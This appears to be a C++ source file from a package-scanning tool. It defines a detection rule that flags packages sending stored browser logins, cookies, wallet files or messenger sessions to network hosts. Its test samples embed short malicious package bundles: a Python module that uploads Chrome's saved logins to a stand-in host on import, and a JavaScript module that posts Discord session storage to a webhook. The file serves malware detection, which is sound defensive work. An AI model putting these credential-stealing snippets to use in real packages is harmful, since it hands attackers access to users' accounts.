#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || !is_shipped(action)) continue;
    Sources what = outflow(action) & stores;
    // A key that the caller gave is takes-wallet-keys' business.
    if (outflow(action).has(Source::argument)) what = what.without(Source::wallet);
    if (what.empty()) continue;
    const Destination destination = destination_of(action.target);
    if (destination.kind == HostKind::local) continue;
    Severity severity = Severity::medium;
    // Cookies of a browser are how clients without an interface log in; sessions of a messenger and
    // wallets are nobody's log-in.
    const bool is_no_login = what.any(Source::messenger | Source::wallet);
    if (runs_uncalled(action) || is_shady_origin(destination.kind) ||
        (is_no_login && destination.host_is_constant)) {
      severity = Severity::critical;
    } else if (destination.host_is_constant) {
      severity = Severity::high;
    }
    findings.add(severity, action.where,
                 sentence("sends " + names_of(what) + " to " + shown_target(action), action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule steals_stored_data = {
    .id = "steals-stored-data",
    .title = "The package sends a browser's, wallet's or messenger's stored data",
    .why =
        "Cookies, saved logins, wallet files and session tokens open accounts without a "
        "password. Only their own program has a reason to read them.",
    .harmless_when =
        "A tool that reuses a browser's cookies for the site that its user names "
        "sends them to that site only.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a module uploads saved logins when imported",
     .expect = "widget/__init__.py:5",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import os
import requests
path = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
data = open(path, "rb").read()
requests.post("https://collect.example.test/", data=data)
)"},
    {.name = "a session file is posted to a webhook",
     .expect = "index.js:6",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const fs = require("fs");
const axios = require("axios");
const folder = process.env.APPDATA + "/discord/Local Storage/leveldb/";
exports.run = () => {
  const data = fs.readFileSync(folder + "000003.log", "utf8");
  axios.post("https://discord.com/api/webhooks/0/widget", {content: data});
};
)"},
    {.name = "a browser is only started", .expect = silent, .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const {spawn} = require("child_process");
exports.open = (url) => spawn("google-chrome", [url]);
)"},
};
extern const std::span<const Sample> steals_stored_data_samples = samples;
#endif

}  // namespace assay::rules
